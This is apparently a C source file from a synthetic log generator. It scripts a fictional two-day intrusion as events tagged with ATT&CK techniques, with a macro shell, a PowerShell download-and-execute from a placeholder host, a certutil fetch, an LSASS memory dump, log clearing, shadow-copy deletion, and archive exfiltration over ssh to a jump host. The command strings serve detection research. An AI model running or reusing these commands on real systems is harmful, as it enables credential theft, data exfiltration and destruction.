/* SPDX-License-Identifier: Apache-2.0
 *
 * The first story (docs/story-first.md): a mail attachment opens a workstation, a stolen password
 * opens a server, a service provider's account comes back at night for the archives.
 *
 * In: a seed. Out: a world with its hosts, two days of ordinary life and one intrusion, marked.
 * Command lines are text for log fields; nothing here runs anything.
 */
#include "simulate/story.h"

#include "simulate/act.h"
#include "simulate/noise.h"

#define S32 "C:\\Windows\\System32\\"
#define PS  S32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define WORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define SID "S-1-5-21-1111111111-2222222222-3333333333-"
#define MONDAY UINT64_C(134168832000000000) /* 2026-03-02T00:00:00Z */
#define JUMP_HOST "203.0.113.17"

static const struct sp_user keller = { "m.keller", "ACME", SID "1107" };
static const struct sp_user brandt = { "a.brandt", "ACME", SID "1103" };
static const struct sp_user north = { "svc-north", "ACME", SID "1131" };
static const struct sp_user administrators = { "Administrators", "Builtin", "S-1-5-32-544" };
static const struct sp_user people[] = {
    { "m.keller", "ACME", SID "1107" }, { "j.lindt", "ACME", SID "1108" },  { "p.novak", "ACME", SID "1109" },
    { "s.okafor", "ACME", SID "1110" }, { "r.duarte", "ACME", SID "1111" }, { "l.hansen", "ACME", SID "1112" },
};

/* The people's stage while the intrusion runs. */
struct scene {
    struct sp_world *world;
    struct sp_host *ws, *srv;
    uint64_t now;
};

static uint64_t at(unsigned day, unsigned hour, unsigned minute)
{
    return MONDAY + day * SP_TICKS_DAY + hour * SP_TICKS_HOUR + minute * SP_TICKS_MINUTE;
}

static void wait_seconds(struct scene *scene, uint32_t most)
{
    scene->now += (3 + sp_random_below(&scene->world->random, most)) * SP_TICKS_SECOND;
}

/* From here on events belong to this step of the intrusion. */
static void step(struct scene *scene, const char *name, const char *technique)
{
    struct sp_mark *mark = sp_arena_zalloc(&scene->world->arena, sizeof *mark);

    wait_seconds(scene, 40);
    if (!mark) {
        scene->world->failed = true;
        return;
    }
    *mark = (struct sp_mark){ .campaign = "first-1", .actor = "actor-1", .step = name, .technique = technique };
    scene->world->mark = mark;
}

static struct sp_process run(struct scene *scene, const struct sp_process *parent, const struct sp_session *session,
                             const char *image, const char *command)
{
    return sp_act_start(scene->world, &scene->now, parent, session, image, command);
}

/* Monday, WS-07: the attachment, and what it brings. */
static struct sp_process entry(struct scene *scene)
{
    struct sp_world *world = scene->world;
    const struct sp_session *me = &scene->ws->user;
    struct sp_process mail = sp_act_resident(world, scene->ws, me,
                                             "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                             "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"");

    step(scene, "attachment opened", "T1204.002");
    struct sp_process word = run(scene, &mail, me, WORD,
                                 "\"" WORD "\" /n \"C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache"
                                 "\\Content.Outlook\\8K2QX1\\offer-4471.docm\" /o \"\"");
    step(scene, "macro starts a shell", "T1059.003");
    struct sp_process shell = run(scene, &word, me, S32 "cmd.exe",
                                  "cmd.exe /c powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAHMAcABvAG8AcgAnAA==");
    step(scene, "encoded script", "T1059.001");
    struct sp_process ps = run(scene, &shell, me, PS,
                               "powershell  -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAHMAcABvAG8AcgAnAA==");
    sp_act_script(world, scene->now, &ps,
                  "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://update.cdn-kilo.example/a')", NULL);
    step(scene, "first contact", "T1071.001");
    sp_act_query(world, scene->now, &ps, "update.cdn-kilo.example", "::ffff:192.0.2.200");
    sp_act_connect(world, sp_world_soon(world, scene->now, 400), &ps,
                   &(struct sp_peer){ "192.0.2.200", NULL, 80, "http" });
    step(scene, "tool fetched", "T1105");
    struct sp_process fetch = run(scene, &ps, me, S32 "certutil.exe",
                                  "certutil.exe -urlcache -split -f http://update.cdn-kilo.example/ctx.dat C:\\Users\\Public\\ctx.exe");
    sp_act_file(world, scene->now, &fetch, "C:\\Users\\Public\\ctx.exe");
    return ps;
}

/* Monday, WS-07: to stay, and to look around. */
static struct sp_process foothold(struct scene *scene, const struct sp_process *ps)
{
    struct sp_world *world = scene->world;
    const struct sp_session *me = &scene->ws->user;

    step(scene, "tool runs", "T1204.002");
    struct sp_process tool = run(scene, ps, me, "C:\\Users\\Public\\ctx.exe", "C:\\Users\\Public\\ctx.exe -q");
    step(scene, "starts at every logon", "T1547.001");
    sp_act_value(world, scene->now, &tool,
                 "HKU\\" SID "1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\ContextHelper",
                 "C:\\Users\\Public\\ctx.exe -q");
    step(scene, "names as a channel", "T1071.004");
    for (int i = 0; i < 3; i++) {
        uint64_t a = sp_random_u64(&world->random), b = sp_random_u64(&world->random);

        sp_act_query(world, scene->now, &tool,
                     sp_world_text(world, "%016llx%016llx%016llx.%03x.ns-kilo.example", (unsigned long long)a,
                                   (unsigned long long)b, (unsigned long long)(a ^ b * 31), (unsigned)i),
                     "type:  16 ok");
        wait_seconds(scene, 20);
    }
    step(scene, "who are the administrators", "T1069.002");
    run(scene, &tool, me, S32 "net.exe", "net.exe group \"Domain Admins\" /domain");
    return tool;
}

/* Monday, WS-07, as SYSTEM by now: defences down, passwords taken, the log emptied. */
static void take_workstation(struct scene *scene)
{
    struct sp_world *world = scene->world;
    const struct sp_session *top = &scene->ws->system;
    struct sp_process tool = sp_act_resident(world, scene->ws, top, "C:\\Users\\Public\\ctx.exe", "C:\\Users\\Public\\ctx.exe -s");

    step(scene, "protection off", "T1562.001");
    sp_act_value(world, scene->now, &tool,
                 "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
                 "DWORD (0x00000001)");
    step(scene, "passwords from memory", "T1003.001");
    struct sp_process dump = run(scene, &tool, top, S32 "rundll32.exe",
                                 "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 716 C:\\Users\\Public\\l.dmp full");
    struct sp_process lsass = sp_act_resident(world, scene->ws, top, S32 "lsass.exe", S32 "lsass.exe");
    sp_act_access(world, scene->now, &dump, &lsass, "0x1fffff",
                  "C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e|"
                  "C:\\Windows\\System32\\dbgcore.dll+ba6f|C:\\Windows\\System32\\comsvcs.dll+2d1f4");
    sp_act_file(world, sp_world_soon(world, scene->now, 700), &dump, "C:\\Users\\Public\\l.dmp");
    step(scene, "log emptied", "T1070.001");
    run(scene, &tool, top, S32 "wevtutil.exe", "wevtutil.exe cl Security");
    sp_act_clear(world, scene->now, scene->ws, top, "Security");
}

/* Tuesday: from the workstation to the server with the administrator's password. */
static void move(struct scene *scene, const struct sp_process *tool)
{
    struct sp_world *world = scene->world;
    struct sp_host *srv = scene->srv;

    step(scene, "stolen password used", "T1078.002");
    sp_act_explicit(world, scene->now, tool, &brandt, "SRV-FILES-01.acme.example");
    sp_act_connect(world, scene->now, tool,
                   &(struct sp_peer){ srv->ip, srv->fqdn, 445, "microsoft-ds" });
    step(scene, "administrative share", "T1021.002");
    struct sp_logon logon = { &brandt, 3, "NTLM", scene->ws->name, scene->ws->ip, "High" };
    const struct sp_session *session = sp_act_logon(world, &scene->now, srv, &logon);
    sp_act_share(world, scene->now, srv, session, "ADMIN$", scene->ws->ip);
    step(scene, "service as a way in", "T1569.002");
    sp_act_service_new(world, scene->now, srv, &brandt,
                       SP_PAIRS({ "ServiceName", "rmxsvc" }, { "ImagePath", "%SystemRoot%\\Temp\\rmxsvc.exe" }));
    struct sp_process services = sp_act_resident(world, srv, &srv->system, S32 "services.exe", S32 "services.exe");
    struct sp_process remote = run(scene, &services, &srv->system, "C:\\Windows\\Temp\\rmxsvc.exe", "C:\\Windows\\Temp\\rmxsvc.exe");
    sp_act_pipe(world, scene->now, &remote, "\\rmxsvc-WS-07-5120-stdin");
    step(scene, "shell by WMI", "T1047");
    struct sp_process wmi = sp_act_resident(world, srv, &srv->network, S32 "wbem\\WmiPrvSE.exe",
                                            S32 "wbem\\wmiprvse.exe -secured -Embedding");
    struct sp_process shell = run(scene, &wmi, session, S32 "cmd.exe",
                                  "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1772524 2>&1");
    step(scene, "another administrator", "T1098");
    run(scene, &shell, session, S32 "net.exe", "net.exe localgroup Administrators ACME\\svc-north /add");
    sp_act_member(world, scene->now, srv, session, north.sid, &administrators);
    step(scene, "task to come back", "T1053.005");
    run(scene, &shell, session, S32 "schtasks.exe",
        "schtasks.exe /create /ru SYSTEM /sc daily /st 01:30 /tn \"Disk check\" /tr C:\\Users\\Public\\chk.cmd");
    sp_act_task(world, scene->now, srv, session, "\\Disk check", "C:\\Users\\Public\\chk.cmd");
}

/* Tuesday night: through the provider, the archives out, the traces away. */
static void leave(struct scene *scene)
{
    struct sp_world *world = scene->world;
    struct sp_host *srv = scene->srv;
    struct sp_logon logon = { &north, 10, "Negotiate", srv->name, JUMP_HOST, "High" };
    static const struct sp_mark hop = { "first-1", "actor-1", "in through the provider", "T1199",
                                        "northmsp", "acme", "vpn", false };

    wait_seconds(scene, 40);
    world->mark = &hop;
    const struct sp_session *session = sp_act_logon(world, &scene->now, srv, &logon);
    struct sp_process desktop = sp_act_resident(world, srv, session, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
    struct sp_process shell = run(scene, &desktop, session, S32 "cmd.exe", "\"" S32 "cmd.exe\"");
    step(scene, "archives put aside", "T1560.001");
    struct sp_process rar = run(scene, &shell, session, "C:\\Program Files\\WinRAR\\Rar.exe",
                                "rar.exe a -r -hpQ7w1 -v100m C:\\$Recycle.Bin\\q1.rar D:\\Shares\\design");
    sp_act_file(world, scene->now, &rar, "C:\\$Recycle.Bin\\q1.part1.rar");
    scene->now += 4 * SP_TICKS_MINUTE;
    sp_act_file(world, scene->now, &rar, "C:\\$Recycle.Bin\\q1.part2.rar");
    step(scene, "back to the provider", "T1048.002");
    struct sp_process copy = run(scene, &shell, session, "C:\\Users\\Public\\svcdrv.exe",
                                 "svcdrv.exe -batch -pw x C:\\$Recycle.Bin\\q1.part1.rar relay@" JUMP_HOST ":/in/");
    sp_act_connect(world, scene->now, &copy, &(struct sp_peer){ JUMP_HOST, NULL, 22, "ssh" });
    step(scene, "copies to a provider's share", "T1074.002");
    run(scene, &shell, session, S32 "robocopy.exe",
        "robocopy.exe C:\\$Recycle.Bin \\\\" JUMP_HOST "\\C$\\ProgramData\\media q1.part*.rar");
    step(scene, "no way back to older files", "T1490");
    run(scene, &shell, session, S32 "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet");
    step(scene, "another log emptied", "T1070.001");
    run(scene, &shell, session, S32 "wevtutil.exe", "wevtutil.exe cl Application");
    sp_act_clear(world, scene->now, srv, session, "Application");
    step(scene, "gone", "T1199");
    sp_act_logoff(world, scene->now, srv, session, 10);
}

static void intrude(struct sp_world *world, struct sp_host *ws, struct sp_host *srv)
{
    struct scene scene = { world, ws, srv, at(0, 13, 12) };
    struct sp_process ps = entry(&scene);
    struct sp_process tool = foothold(&scene, &ps);

    scene.now = at(0, 15, 40);
    take_workstation(&scene);
    scene.now = at(1, 9, 5);
    move(&scene, &tool);
    scene.now = at(1, 22, 40);
    leave(&scene);
    world->mark = NULL;
}

static void play(struct sp_world *world, uint64_t seed, unsigned days)
{
    struct sp_host *hosts = sp_arena_zalloc(&world->arena, 2 * sizeof *hosts);

    if (!hosts) {
        world->failed = true;
        return;
    }
    world->random = sp_random_stream(seed, 1);
    world->hosts = hosts;
    world->host_count = 2;
    world->first = MONDAY + 2 * SP_TICKS_DAY - days * SP_TICKS_DAY;
    world->last = MONDAY + 2 * SP_TICKS_DAY;
    hosts[0] = (struct sp_host){ .org = "acme", .name = "WS-07", .fqdn = "WS-07.acme.example", .ip = "10.20.1.11",
                                 .machine = 0x5a17c0de, .boot = world->first - SP_TICKS_HOUR };
    hosts[1] = (struct sp_host){ .org = "acme", .name = "SRV-FILES-01", .fqdn = "SRV-FILES-01.acme.example",
                                 .ip = "10.20.0.20", .machine = 0x3bd41f02, .audits_processes = true,
                                 .boot = world->first - 40 * SP_TICKS_HOUR };
    sp_world_settle(world, &hosts[0], &keller);
    sp_world_settle(world, &hosts[1], &brandt);
    for (size_t i = 0; i < 2; i++) {
        struct sp_noise_cast cast = { &hosts[i], i == 1, &brandt, &north, "203.0.113.10", people,
                                      sizeof people / sizeof *people };

        world->random = sp_random_stream(seed, 10 + i);
        sp_noise_play(world, &cast);
    }
    world->random = sp_random_stream(seed, 2);
    intrude(world, &hosts[0], &hosts[1]);
}

static const char orgs_yaml[] =
    "version: 1\n"
    "organisations:\n"
    "  - id: acme\n"
    "    name: \"Acme Works\"\n"
    "    sector: manufacturing\n"
    "    country: \"DE\"\n"
    "    domains: [acme.example]\n"
    "    egress: [\"198.51.100.0/26\"]\n"
    "  - {id: northmsp, name: \"North Managed Services\", provider: true, logs: false, egress: [\"203.0.113.0/26\"],"
    " identities: [\"svc-north\"]}\n"
    "relations:\n"
    "  - {provider: northmsp, customer: acme, kind: vpn, since: 2024-05-01}\n";

const struct sp_story sp_story_first = { "first", 2, 1, orgs_yaml, play };
